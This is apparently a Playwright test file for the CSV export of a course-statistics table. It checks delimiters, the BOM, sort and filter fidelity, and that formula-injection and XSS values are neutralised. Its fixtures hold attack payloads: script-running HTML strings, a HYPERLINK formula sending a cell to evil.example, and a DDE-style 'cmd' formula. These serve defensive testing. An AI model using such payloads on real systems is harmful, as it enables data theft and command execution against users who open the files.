import { readFile } from 'node:fs/promises';
import { expect, test, type Locator, type Page } from '@playwright/test';
import { parseCsv, type CsvDelimiter } from '../src/lib/csv';
import {
  allowWholeCourseLoads,
  LOAD_ALL_TIMEOUT,
  openSignedIn,
  PROXY_URL,
  scriptUpstream,
  signIn,
  uniqueToken,
} from './support';

const STATS_PATH = /^\/endpoint\/v1\/courses\/\d+\/course_stats$/;
const ALL_LOADED = 'Loaded every page (100 pages): 10,000 rows';

function statsTable(page: Page, courseId: number): Locator {
  return page.getByRole('table', { name: new RegExp(`^Statistics of course ${courseId}\\b`) });
}

/** The header texts of the table, in their order (a sortable header's text without its arrow). */
async function headerTexts(table: Locator): Promise<string[]> {
  return table.evaluate((element) =>
    [...element.querySelectorAll('thead th')].map((th) =>
      (th.querySelector('button')?.firstChild?.textContent ?? th.textContent ?? '').trim(),
    ),
  );
}

/** Clicks Export CSV and reads the file it downloads, raw bytes and parsed rows. */
async function exportCsv(page: Page, delimiter: CsvDelimiter) {
  const download = page.waitForEvent('download');
  await page.getByRole('button', { name: 'Export CSV' }).click();
  const file = await download;
  const path = await file.path();
  const bytes = await readFile(path);
  const text = bytes.toString('utf8');
  return { name: file.suggestedFilename(), bytes, text, rows: parseCsv(text, delimiter) };
}

const today = () => {
  const now = new Date();
  const pad = (value: number) => String(value).padStart(2, '0');
  return `${now.getFullYear()}-${pad(now.getMonth() + 1)}-${pad(now.getDate())}`;
};

test('exports exactly the rows shown and the visible columns, with a BOM, and never asks the API', async ({ page }) => {
  // Reads all 10,000 rows, twice.
  allowWholeCourseLoads(2);
  const requests: string[] = [];
  page.on('request', (request) => {
    if (STATS_PATH.test(new URL(request.url()).pathname)) requests.push(request.url());
  });
  await openSignedIn(page, '/courses/1000/stats?all=1&quick=not_passed&sort=score.desc');
  await expect(page.getByRole('status').filter({ hasText: /^Loaded every/ })).toHaveText(ALL_LOADED, {
    timeout: LOAD_ALL_TIMEOUT,
  });
  const table = statsTable(page, 1000);

  // An extra column, shown from the Columns menu, goes last in the file as on screen.
  await page.getByRole('button', { name: 'Columns' }).click();
  await page.getByRole('checkbox', { name: 'Stat ID' }).check();
  await page.keyboard.press('Escape');
  const headers = await headerTexts(table);
  expect(headers.at(-1)).toBe('Stat ID');
  const shown = Number((await table.getAttribute('aria-rowcount')) ?? '0') - 1;
  expect(shown).toBeGreaterThan(100);
  expect(shown).toBeLessThan(10_000);

  await page.getByRole('combobox', { name: 'Delimiter' }).selectOption('Semicolon');
  const before = requests.length;
  const file = await exportCsv(page, ';');
  expect(requests.length).toBe(before);
  expect(file.name).toBe(`course-1000-stats-${today()}.csv`);
  expect([...file.bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  expect(file.text).toContain('\r\n');

  const [header, ...rows] = file.rows;
  expect(header).toEqual(headers);
  expect(rows).toHaveLength(shown);
  await expect(page.getByRole('status').filter({ hasText: /^Exported/ })).toHaveText(
    `Exported ${shown.toLocaleString('en-US')} rows to ${file.name}.`,
  );
  const column = (name: string) => headers.indexOf(name);
  // Sorted as shown: by score, highest first; filtered as shown: nobody passed.
  const scores = rows.map((row) => Number(row[column('Score')]));
  expect(scores).toEqual([...scores].sort((a, b) => b - a));
  expect(rows.every((row) => row[column('Status')] !== 'Passed')).toBe(true);
  // The same rows, in the same order, as the table's first rows.
  const firstIds = await table.evaluate(
    (element, index) =>
      [...element.querySelectorAll('tbody tr[aria-rowindex]')]
        .slice(0, 5)
        .map((row) => row.children[index]?.textContent?.trim()),
    column('Stat ID'),
  );
  expect(rows.slice(0, 5).map((row) => row[column('Stat ID')])).toEqual(firstIds);
  expect(new Set(rows.map((row) => row[column('Stat ID')])).size).toBe(shown);

  // The delimiter is remembered.
  await page.reload();
  await expect(page.getByRole('status').filter({ hasText: /^Loaded every/ })).toHaveText(ALL_LOADED, {
    timeout: LOAD_ALL_TIMEOUT,
  });
  await expect(page.getByRole('combobox', { name: 'Delimiter' })).toHaveValue(';');
});

test('exports the rows of the page outside whole-course mode, with commas and the markup as plain text', async ({
  page,
}) => {
  await openSignedIn(page, '/courses/106/stats');
  await expect(page.getByText('Showing 6 rows on page 1.')).toBeVisible();
  await page.getByRole('combobox', { name: 'Delimiter' }).selectOption('Comma');
  const file = await exportCsv(page, ',');
  const [header, ...rows] = file.rows;
  expect(header).toEqual([
    'User',
    'Email',
    'Session',
    'Status',
    'Progress',
    'Score',
    'Deadline',
    'Last activity',
    'Time spent',
    'Tasks',
    'Certificate',
  ]);
  expect(rows).toHaveLength(6);
  expect(rows.map((row) => row[0])).toContain('<img src=x onerror=alert(1)>');
  expect(rows.map((row) => row[1])).toContain('"><svg onload=alert(2)>@example.com');
  // Only what would have been a link is exported as one: never the javascript: URL.
  const certificates = rows.map((row) => row[10]);
  expect(certificates).toContain('https://files.example.com/certificates/106/1.pdf');
  expect(file.text).not.toContain('javascript:');
});

test('cells that a spreadsheet would run as formulas are neutralised with a leading quote', async ({ page }) => {
  // The demo data has no value starting with =, +, - or @: a scripted API sends some.
  const token = uniqueToken('export-formulas');
  const row = (id: number, overrides: Record<string, unknown>) => ({
    id,
    user_id: 500 + id,
    username: `Learner ${id}`,
    user_email: `learner${id}@example.com`,
    course_id: 77,
    coursename: 'Scripted',
    completed: false,
    success: false,
    course_session_id: 1,
    course_session_name: 'Session',
    deadline: null,
    time_spent: 60,
    quiz_count: null,
    score: 10,
    last_activity: null,
    progress: 10,
    completed_tasks: 1,
    cert_file: null,
    ...overrides,
  });
  const body = [
    row(1, { username: '=HYPERLINK("http://evil.example/?x="&A1,"Click")' }),
    row(2, { username: "+1+cmd|'/C calc'!A0", course_session_name: '-2+3' }),
    row(3, { username: '@SUM(1+1)', user_email: '=1+1@example.com' }),
    row(4, { username: '\tTabbed', course_session_name: 'a=b, -c' }),
    row(5, { username: 'Анна Смирнова', course_session_name: 'Поток 1; "весна"' }),
  ];
  await scriptUpstream(token, [], { path: '/course_stats$', status: 200, body });
  await page.goto(`${PROXY_URL}/courses/77/stats`);
  await signIn(page, token);
  await expect(page.getByText('Showing 5 rows on page 1.')).toBeVisible();

  await page.getByRole('combobox', { name: 'Delimiter' }).selectOption('Semicolon');
  const file = await exportCsv(page, ';');
  const [, ...rows] = file.rows;
  const byId = new Map(rows.map((cells, index) => [index + 1, cells]));
  expect(byId.get(1)?.[0]).toBe('\'=HYPERLINK("http://evil.example/?x="&A1,"Click")');
  expect(byId.get(2)?.[0]).toBe("'+1+cmd|'/C calc'!A0");
  expect(byId.get(2)?.[2]).toBe("'-2+3");
  expect(byId.get(3)?.[0]).toBe("'@SUM(1+1)");
  expect(byId.get(3)?.[1]).toBe("'=1+1@example.com");
  expect(byId.get(4)?.[0]).toBe("'\tTabbed");
  expect(byId.get(4)?.[2]).toBe('a=b, -c');
  // Cyrillic survives as UTF-8, and a cell holding the delimiter or quotes is quoted (RFC 4180).
  expect(byId.get(5)?.[0]).toBe('Анна Смирнова');
  expect(byId.get(5)?.[2]).toBe('Поток 1; "весна"');
  expect(file.text).toContain('"Поток 1; ""весна"""');
  expect(file.text).toContain('"\'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")"');
});
